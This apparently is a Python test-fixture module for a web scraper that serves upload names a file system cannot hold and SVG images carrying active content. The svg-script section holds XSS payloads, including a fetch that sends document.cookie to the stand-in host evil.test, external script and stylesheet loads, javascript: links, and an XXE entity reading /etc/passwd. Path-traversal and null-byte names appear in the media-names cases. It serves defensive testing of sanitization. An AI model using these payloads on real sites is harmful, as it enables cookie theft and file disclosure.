"""Media faults: upload names a file system cannot hold as they are, and SVG with script.

``media-names`` serves articles whose bodies reference images and documents under every
name that clashes on disk: a file and a folder of the same name, dot segments (literal and
percent-encoded) that resolve to a folder, names and paths too long for the file system,
names differing only by case, %2F and %00, trailing dots and spaces, reserved names.
Every URL answers with its own small, valid file (two of them share bytes on purpose).
``svg-script`` serves an article with SVG images holding script, handlers, javascript:
links, foreignObject, external references and an XXE attempt, and one that is not XML.
"""

from __future__ import annotations

import re
import struct
import zlib
from html import escape
from urllib.parse import parse_qsl, quote, urljoin, urlsplit

from belong_scraper.faults import (
    Fault,
    FaultContext,
    FaultReply,
    FaultRoute,
    article_html,
    article_route,
    register,
)

NAMES_ARTICLES = (9301, 9302, 9303)
SVG_ARTICLE = 9350
WORDS = ["harbour", "panel", "visit", "forum", "atelier", "report", "summit", "river"]
LETTERS = ["ü", "é", "ș", "ø", "ł", "ñ", "ž", "å"]


def png_bytes(label: str) -> bytes:
    """A valid 1×1 PNG carrying ``label`` in a tEXt chunk (so each file differs)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\x00\x80")
    text = b"Comment\x00" + label.encode("utf-8")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"tEXt", text)
            + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))  # fmt: skip


def jpeg_bytes(label: str) -> bytes:
    """A valid baseline JPEG (one grey 8×8 block) with ``label`` in a comment segment."""

    def segment(marker: int, data: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data

    comment = label.encode("utf-8")[:60000]
    quant = b"\x00" + b"\x01" * 64
    frame = struct.pack(">BHHB", 8, 8, 8, 1) + b"\x01\x11\x00"
    # One code of length 1 per table: DC category 0, AC end-of-block.
    dc_table = b"\x00" + b"\x01" + b"\x00" * 15 + b"\x00"
    ac_table = b"\x10" + b"\x01" + b"\x00" * 15 + b"\x00"
    scan = b"\x01\x01\x00\x00\x3f\x00"
    return (b"\xff\xd8" + segment(0xFE, comment) + segment(0xDB, quant)
            + segment(0xC0, frame) + segment(0xC4, dc_table) + segment(0xC4, ac_table)
            + segment(0xDA, scan) + b"\x3f" + b"\xff\xd9")  # fmt: skip


def pdf_bytes(label: str) -> bytes:
    """A valid one-page PDF whose page says ``label`` (ASCII only)."""
    text = label.encode("ascii", "replace").replace(b"(", b"[").replace(b")", b"]")[:200]
    stream = b"BT /F1 12 Tf 20 100 Td (" + text + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


MAKERS = {"jpg": ("image/jpeg", jpeg_bytes), "png": ("image/png", png_bytes),
          "pdf": ("application/pdf", pdf_bytes)}  # fmt: skip


def served_paths(href: str) -> list[str]:
    """The paths a client may request for a body link, all answered alike: as written,
    and as a server normalises it (encoded dots decoded, dot segments resolved, with and
    without the trailing slash of a folder)."""
    raw = urlsplit(href).path
    decoded = re.sub("%2[Ee]", ".", raw)
    resolved = urlsplit(urljoin("http://fault.test/", decoded)).path
    spellings = [raw, resolved, resolved.rstrip("/") or "/"]
    return list(dict.fromkeys(spellings))


def media_routes(href: str, kind: str, label: str) -> list[FaultRoute]:
    content_type, make = MAKERS[kind]
    query = dict(parse_qsl(urlsplit(href).query))
    reply = FaultReply(body=make(label), headers={"Content-Type": content_type})
    return [FaultRoute(path, query, reply=reply) for path in served_paths(href)]


def name_cases(ctx: FaultContext) -> list[list[tuple[str, str, str]]]:
    """Per article: (href, kind, label) of each referenced file."""
    v, rng = ctx.variant, ctx.rng
    year, month = (2024, 3) if v == 0 else (2015 + rng.randrange(10), 1 + rng.randrange(12))
    base = f"/uploads/{year}/{month:02d}"
    word = "a" if v == 0 else rng.choice(WORDS)
    other = "b" if v == 0 else rng.choice([w for w in WORDS if w != word])
    letter = LETTERS[v % len(LETTERS)]
    long_name = "n" * 296 if v == 0 else rng.choice(WORDS) * (40 + v % 7)
    deep = "/".join(f"{rng.choice(WORDS)}-{n:03d}-" + "d" * 180 for n in range(22))
    upper = word.capitalize() if v % 2 == 0 else word.upper()
    # Other variants: deeper file/folder clashes, other trailing junk, other reserved names.
    inside = other if v == 0 else "/".join(rng.sample(WORDS, 1 + v % 3)) + "/" + other
    trailing = (".", "%20") if v == 0 else tuple(rng.sample([".", "%20", "..", "%20.", ".%20"], 2))
    reserved = ["CON", "Aux", "nul", "COM1", "lpt9", "PRN"]
    first_reserved = "CON" if v == 0 else rng.choice(reserved)
    clashes = [
        (f"{base}/{word}.jpg", "jpg"),
        (f"{base}/{word}.jpg/{inside}.jpg", "jpg"),  # a folder named like the file above
        (f"/uploads/{year}/../{year}/{month:02d}/", "jpg"),  # resolves to a folder
        (f"/uploads/{other}/../", "png"),  # resolves to /uploads/ itself
        (f"{base}/%2E%2E/{other}.png", "png"),  # an encoded dot segment
        (f"{base}/%2e", "png"),  # "." once decoded
    ]
    lengths = [
        (f"{base}/{long_name}.jpg", "jpg"),
        (f"/uploads/{deep}/{other}.png", "png"),  # a path over 4096 bytes
        (f"{base}/{quote(letter * (130 + v))}.pdf", "pdf"),  # > 255 bytes in UTF-8
    ]
    spellings = [
        (f"{base}/{upper}.JPG", "jpg"),
        (f"{base}/{word.lower()}.jpg?v={v + 2}", "jpg"),
        (f"{base}/{word}%2F{other}.jpg", "jpg"),  # an encoded slash
        (f"{base}/nul%00{other}.png", "png"),
        (f"{base}/{other}.png{trailing[0]}", "png"),  # trailing dots and spaces
        (f"{base}/{other}.png{trailing[1]}", "png"),
        (f"{base}/{other}.png", "png"),
        (f"{base}/{first_reserved}.jpg", "jpg"),
        (f"{base}/{['aux', 'Lpt1', 'com3', 'PRN'][v % 4]}.pdf", "pdf"),
    ]
    cases = []
    for group in (clashes, lengths, spellings):
        cases.append([(href, kind, f"{href} variant {v}") for href, kind in group])
    # Two URLs, one file: the same bytes are stored once (one file per SHA-256).
    shared = f"shared file variant {v}"
    cases[2] += [(f"{base}/{word}-copy-1.png", "png", shared),
                 (f"{base}/{word}-copy-2.png", "png", shared)]  # fmt: skip
    return cases


def _reference(href: str, kind: str) -> str:
    if kind == "pdf" and href.lower().endswith(".pdf"):
        return f'<p>Read <a href="{escape(href)}">the document</a> before the meeting.</p>'
    return f'<p><img src="{escape(href)}" alt="Photo of the workshop"></p>'


@register("media-names")
def media_names(ctx: FaultContext) -> Fault:
    routes: list[FaultRoute] = []
    links = []
    for article_id, group in zip(NAMES_ARTICLES, name_cases(ctx), strict=True):
        title = f"Workshop photos and documents, part {article_id - NAMES_ARTICLES[0] + 1}"
        intro = ("<p>The regional workshop gathered partners from twelve regions to compare "
                 "their integration programmes and share what worked.</p>")  # fmt: skip
        body = intro * 3 + "".join(_reference(href, kind) for href, kind, _ in group)
        routes.append(article_route(article_id, article_html(escape(title), body)))
        for href, kind, label in group:
            routes += media_routes(href, kind, label)
        links.append(f"/news.php?id={article_id}")
    return Fault("media-names", routes, links=links)


SVG_SCRIPTS = [
    '<script type="text/javascript">alert(document.cookie)</script>',
    "<script><![CDATA[fetch('//evil.test/?c='+document.cookie)]]></script>",
    '<script xlink:href="https://evil.test/x.js"/>',
]
SVG_HANDLERS = ['onload="alert(1)"', 'onmouseover="steal()"', 'ONCLICK="go()"']


def svg_payload(variant: int) -> bytes:
    """An SVG drawing with every kind of active content, and an XXE attempt."""
    script = SVG_SCRIPTS[variant % len(SVG_SCRIPTS)]
    handler = SVG_HANDLERS[variant % len(SVG_HANDLERS)]
    entity = ["file:///etc/passwd", "http://127.0.0.1:1/xxe", "file:///etc/hostname"][variant % 3]
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg [
  <!ENTITY xxe SYSTEM "{entity}">
  <!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="120" height="60" viewBox="0 0 120 60" {handler}>
  {script}
  <defs><linearGradient id="g{variant}"><stop offset="0" stop-color="#036"/></linearGradient></defs>
  <rect width="120" height="60" fill="url(#g{variant})" onclick="evil()"/>
  <a xlink:href="javascript:alert('a')"><circle cx="30" cy="30" r="20"/></a>
  <a href=" JaVaScRiPt:alert(2)"><text x="5" y="20">click</text></a>
  <foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml">
    <iframe src="javascript:alert(3)"></iframe><script>alert(4)</script></body>
  </foreignObject>
  <image xlink:href="https://evil.test/track.png" width="1" height="1"/>
  <use xlink:href="https://evil.test/sprite.svg#icon"/>
  <set attributeName="onmouseover" to="alert(5)"/>
  <animate attributeName="href" values="javascript:alert(6)"/>
  <style>@import url(https://evil.test/x.css); rect {{ fill: red }}</style>
  <text x="10" y="50" style="fill:url(https://evil.test/f)">&xxe; &lol2; region {variant}</text>
</svg>
""".encode()


@register("svg-script")
def svg_script(ctx: FaultContext) -> Fault:
    v = ctx.variant
    base = "/uploads/2024/05" if v == 0 else f"/uploads/{2016 + v % 9}/{1 + v % 12:02d}"
    drawing = f"{base}/{['regions-map', 'network', 'logo'][v % 3]}.svg"
    broken = f"{base}/{['diagram', 'chart', 'badge'][v % 3]}.svg"
    svg = {"Content-Type": "image/svg+xml"}
    routes = [
        FaultRoute(drawing, any_query=True, reply=FaultReply(body=svg_payload(v), headers=svg)),
        # Not XML at all: it cannot be sanitized, so it must not be published.
        FaultRoute(
            broken,
            any_query=True,
            reply=FaultReply(body=b"<svg onload=alert(1)><script>alert(2)</script", headers=svg),
        ),
    ]
    body = (
        "<p>The map of the partner regions shows where the programme is active.</p>" * 3
        + f'<p><img src="{drawing}" alt="Map of partner regions"></p>'
        + f'<p><img src="{broken}" alt="Programme diagram"></p>'
    )
    routes.append(article_route(SVG_ARTICLE, article_html("Partner regions on a map", body)))
    return Fault("svg-script", routes, links=[f"/news.php?id={SVG_ARTICLE}"])
